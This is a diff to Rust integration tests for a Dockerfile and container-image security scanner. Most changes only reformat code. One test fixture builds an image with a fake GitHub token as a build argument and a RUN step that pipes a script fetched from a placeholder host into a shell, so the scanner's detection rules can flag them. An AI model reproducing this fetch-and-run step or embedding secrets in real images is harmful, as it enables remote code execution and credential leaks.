@@ -43,7 +43,14 @@ fn build(daemon: &PrivateDockerd, dir: &Path, tag: &str, dockerfile: &str) {
 fn scan(dir: &Path, host: &str, args: &[&str]) -> (Vec<String>, String) {
     let out = dockward()
         .current_dir(dir)
-        .args(["scan", "--isolated", "--format", "json", "--select", "DW101,DW104,DW302,DW315"])
+        .args([
+            "scan",
+            "--isolated",
+            "--format",
+            "json",
+            "--select",
+            "DW101,DW104,DW302,DW315",
+        ])
         .args(args)
         .arg(".")
         .env("DOCKER_HOST", host)
@@ -84,7 +91,11 @@ fn the_engine_decides_base_images_for_dockerfiles_and_compose_builds_and_never_p
     );
     let tree = dir.join("tree");
     write(&tree, "u/Dockerfile", "FROM acme/unprivileged:1\nEXPOSE 8080\n");
-    write(&tree, "r/Dockerfile", "ARG BASE=test/base:1\nFROM ${BASE}\nEXPOSE 8080\n");
+    write(
+        &tree,
+        "r/Dockerfile",
+        "ARG BASE=test/base:1\nFROM ${BASE}\nEXPOSE 8080\n",
+    );
     write(&tree, "m/Dockerfile", "FROM acme/missing:1\nEXPOSE 8080\n");
     write(
         &tree,
@@ -127,12 +138,19 @@ fn the_engine_decides_base_images_for_dockerfiles_and_compose_builds_and_never_p
     // `--min-confidence high` leaves them out.
     let (found, _) = scan(&tree, &daemon.host(), &["--min-confidence", "high"]);
     assert!(found.iter().all(|f| f.contains(" high ")), "{found:#?}");
-    assert!(!found.iter().any(|f| f.contains(" DW101 ") || f.contains(" DW302 ")), "{found:#?}");
+    assert!(
+        !found.iter().any(|f| f.contains(" DW101 ") || f.contains(" DW302 ")),
+        "{found:#?}"
+    );
 
     // An engine that cannot be reached: one warning, and the scan goes on as offline.
     let (found, stderr) = scan(&tree, "unix:///nonexistent/docker.sock", &["--base-images", "engine"]);
     assert_eq!(stderr.matches("warning: --base-images engine").count(), 1, "{stderr}");
-    assert_eq!(found.iter().filter(|f| f.contains(" DW101 low ")).count(), 3, "{found:#?}");
+    assert_eq!(
+        found.iter().filter(|f| f.contains(" DW101 low ")).count(),
+        3,
+        "{found:#?}"
+    );
 }
 
 #[test]
@@ -148,7 +166,16 @@ fn engine_images_are_judged_by_their_history_too() {
         "FROM test/base:1\nARG GITHUB_TOKEN=ghp_aBcDeFgHiJkLmNoPqRsTuVwXyZ0123456789\nRUN [\"/bin/busybox\", \"sh\", \"-c\", \"true || /bin/busybox wget -qO- http://example.invalid/i.sh | sh\"]\nUSER 1000\n",
     );
     let out = dockward()
-        .args(["engine", "--isolated", "--host", &daemon.host(), "--format", "json", "--select", "DW150,DW401"])
+        .args([
+            "engine",
+            "--isolated",
+            "--host",
+            &daemon.host(),
+            "--format",
+            "json",
+            "--select",
+            "DW150,DW401",
+        ])
         .env_remove("DOCKER_HOST")
         .output()
         .unwrap();
